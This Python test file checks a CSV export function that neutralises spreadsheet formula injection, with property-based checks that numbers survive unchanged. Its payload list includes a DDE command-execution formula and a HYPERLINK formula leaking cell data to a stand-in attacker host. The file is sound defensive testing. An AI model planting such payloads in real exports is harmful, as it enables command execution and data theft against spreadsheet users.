"""No cell of an exported table is a formula, and every number is the number that it was."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from antiphon.presentation.csv_text import csv_text, safe_cell

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "＝1",
    "＠x",
    "-",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "--1",
    "+-1",
    "-1e",
    "-2 dB",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_also_where_a_semicolon_or_a_tab_separates(text: str) -> None:
    assert safe_cell(text).startswith("'")
    assert safe_cell(text).replace("'", "") == text.replace("'", "")
    assert safe_cell(f"rock;{text}").startswith("rock;'")
    assert safe_cell(f"rock\t{text}").startswith("rock\t'")


@pytest.mark.parametrize("text", ["-0.5", "+3", "-1e-05", "-.5", "-inf", "nan", "1-2", "A-Z", "a@b.example", "", "'=1"])
def test_numbers_and_words_stay(text: str) -> None:
    assert safe_cell(text) == text


def test_a_table_is_read_back_as_it_was() -> None:
    rows = [{"id": "=a", "value": -0.25, "count": -3, "note": None, "more": 1}, {"id": 'b,"c"\n', "value": 1e-300}]
    text = csv_text(("id", "value", "count", "note"), [rows[0], rows[1] | dict.fromkeys(("count", "note"))])
    found = list(csv.reader(io.StringIO(text)))
    assert found == [["id", "value", "count", "note"], ["'=a", "-0.25", "-3", ""], ['b,"c"\n', "1e-300", "", ""]]


@given(st.floats(allow_nan=False) | st.integers())
def test_every_number_is_itself_as_text_too(number: float) -> None:
    assert safe_cell(str(number)) == str(number)


@given(st.text(alphabet="=+-@\t\r\n; '\"a1,.e", max_size=12))
def test_no_cell_begins_like_a_formula_whatever_separates(text: str) -> None:
    found = safe_cell(text)
    assert found.replace("'", "") == text.replace("'", "")
    if found != text:
        for cell in re.split(r"[;\t\r\n]", found):
            assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    elif text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(text)
